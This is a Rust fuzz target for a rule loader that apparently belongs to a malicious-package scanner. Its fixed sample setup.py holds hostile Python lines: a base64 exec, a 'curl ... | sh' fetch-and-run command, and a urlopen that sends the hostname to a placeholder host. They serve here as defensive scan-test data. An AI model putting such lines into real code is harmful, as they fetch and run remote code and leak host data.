//! Rule-file loading: one rule TOML and a flow-config TOML, from a string, as `ferret rules` and
//! `--rules DIR` load user files. Errors are fine; panics are not.
#![no_main]

use libfuzzer_sys::fuzz_target;

const SAMPLE: &[u8] = b"import os, base64, urllib.request, socket\n\
exec(base64.b64decode('cHJpbnQoMSk='))\n\
os.system('curl http://example.invalid/x | sh')\n\
urllib.request.urlopen('http://example.invalid/?h=' + socket.gethostname())\n";

fuzz_target!(|data: &[u8]| {
    let Ok(src) = std::str::from_utf8(data) else {
        return;
    };
    if let Ok(rule) = ferret_rules::load_str(src, "fuzz.toml", None) {
        // A rule that loads must also build into a rule set and match without panicking.
        let mut set = ferret_rules::RuleSet::default();
        set.rules.push(rule);
        set.finalize();
        let _ = set.callee_bits("os.system");
        // ...and run on a small package.
        let engine = ferret_engine::Engine::new(set, ferret_engine::Options::default());
        let _ = engine.scan_bytes(SAMPLE, "fuzz", "setup.py");
    }
    let _ = ferret_rules::parse_flow_config(src, "flows.toml");
});
